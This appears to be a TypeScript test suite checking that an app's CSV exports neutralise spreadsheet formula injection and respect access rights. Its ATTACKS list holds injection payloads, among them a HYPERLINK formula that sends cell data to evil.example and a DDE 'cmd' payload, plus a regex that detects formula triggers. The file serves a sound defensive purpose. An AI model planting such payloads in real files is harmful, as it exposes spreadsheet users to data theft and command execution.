import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { csvCell } from '../../src/platform/csv/index.ts'
import { type Amends, openAmends } from '../amends.ts'

// What a spreadsheet would run, alone or behind what it skips, and what would break out of its cell.
const ATTACKS = [
  '=HYPERLINK("https://evil.example?x="&A1,"Your refund")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'cake","=1+1',
  'cake;=1+1',
  'cake\t=1+1',
  'cake\r\n=1+1',
  '"=1+1"',
]

let amends: Amends

before(async () => {
  amends = await openAmends()
})

interface File {
  head: string[]
  lines: Record<string, string>[]
  text: string
}

async function file(who: 'Ingrid' | 'Greta' | 'Olav', path: string): Promise<File> {
  const { status, text, headers } = await amends.fetch(who, 'GET', `/api/v1${path}`)
  assert.equal(status, 200, text)
  assert.match(headers.get('content-type') ?? '', /^text\/csv; charset=utf-8$/)
  assert.match(headers.get('content-disposition') ?? '', /^attachment; filename="[a-z]+-[\d-]+\.csv"$/)
  const [head = [], ...lines] = parse(text, { bom: true, relax_column_count: false }) as string[][]
  const named = lines.map((line) => Object.fromEntries(line.map((cell, at) => [head[at] ?? '', cell])))
  return { head, lines: named, text }
}

/** Every cell as each kind of spreadsheet would cut it: at commas, semicolons, tabs. */
const cells = (text: string) =>
  [',', ';', '\t'].flatMap((delimiter) =>
    (
      parse(text, {
        bom: true,
        delimiter,
        relax_column_count: true,
        relax_quotes: true,
        skip_empty_lines: true,
      }) as string[][]
    ).flat(),
  )

const RUNS = /^[\s\p{Cf}]*[=+@＝＋－＠]|^[\s\p{Cf}]*-(?!\d+(\.\d+)?$)/u

test('no word of a customer runs as a formula in the list of cases, and every word is there', async () => {
  const { key } = await amends.makeKey({ scope: 'ingest' })
  for (const [at, attack] of ATTACKS.entries()) {
    const customer = { externalId: `attacker ${at}`, name: `${attack} ${at}` }
    const body = {
      source: 'survey',
      scale: 'stars5',
      score: 1,
      comment: attack,
      product: attack,
      customer,
      site: 'storgata',
    }
    const got = await amends.fetch({ key }, 'POST', '/api/v1/feedback', body)
    assert.equal(got.status, 201, got.text)
  }
  const { lines, text, head } = await file('Ingrid', '/cases?format=csv')
  assert.equal(lines.length, ATTACKS.length)
  assert.ok(head.includes('words') && head.includes('customer'))
  assert.deepEqual(
    cells(text).filter((cell) => RUNS.test(cell)),
    [],
  )
  // Apostrophes of ours and blanks aside, everything they said is there.
  const letters = (words = '') => words.replaceAll(/['\s]/g, '')
  const said = lines.map(({ words }) => letters(words))
  const missing = ATTACKS.filter((attack) => !said.includes(letters(attack)))
  assert.deepEqual(missing, [])
})

test('a cell that is a number stays one, and an amount below zero is no attack', () => {
  assert.equal(csvCell(-12.5), '-12.5')
  assert.equal(csvCell('-12.5'), "'-12.5")
  assert.equal(csvCell(null), '')
  assert.equal(csvCell('Clara said: no'), 'Clara said: no')
})

test('the ledger leaves with what was given, and no reason in it runs', async () => {
  const { body } = await amends.fetch('Ana', 'GET', '/api/v1/cases')
  const { id } = body.items[0]
  const offer = {
    kind: 'refund',
    restitution: { amount: 1_250, currency: 'EUR' },
    goodwill: { amount: 100, currency: 'EUR' },
    reason: '=1+1',
  }
  const made = await amends.fetch('Ana', 'POST', `/api/v1/cases/${id}/offers`, offer)
  assert.equal(made.body.verdict, 'granted', made.text)
  const { lines, text } = await file('Ingrid', '/compensation/ledger?format=csv')
  assert.deepEqual(lines.map(({ account, amount, currency, by }) => [account, amount, currency, by]).sort(), [
    ['goodwill', '1', 'EUR', 'Ana'],
    ['restitution', '12.5', 'EUR', 'Ana'],
  ])
  assert.deepEqual(
    cells(text).filter((cell) => RUNS.test(cell)),
    [],
  )
})

test('a colleague’s name does not run in the list of staff', async () => {
  await amends.fetch('Olav', 'POST', '/api/v1/staff', {
    name: '=1+1',
    email: 'formula@bakery.example',
    role: 'agent',
  })
  const { lines, text } = await file('Olav', '/staff?format=csv&limit=2')
  assert.equal(lines.length, 8)
  assert.ok(lines.some(({ name }) => name === "'=1+1"))
  assert.deepEqual(
    cells(text).filter((cell) => RUNS.test(cell)),
    [],
  )
})

test('the list of second ratings leaves as a file too', async () => {
  const { head } = await file('Ingrid', '/followups?format=csv')
  assert.deepEqual(head.slice(0, 2), ['case', 'customer'])
})

test('a file holds what its reader may see, and who took it along stands in the journal', async () => {
  assert.deepEqual((await file('Greta', '/cases?format=csv')).lines, [])
  assert.deepEqual((await file('Greta', '/compensation/ledger?format=csv')).lines, [])
  assert.equal((await amends.fetch('Ana', 'GET', '/api/v1/compensation/ledger?format=csv')).status, 403)
  const { rows } = await amends.database.pool.query(
    `select actor->>'name' as name, body->>'list' as list from platform.journal where fact = 'list.exported' order by id`,
  )
  assert.deepEqual(rows.at(-1), { name: 'Greta', list: 'ledger' })
})
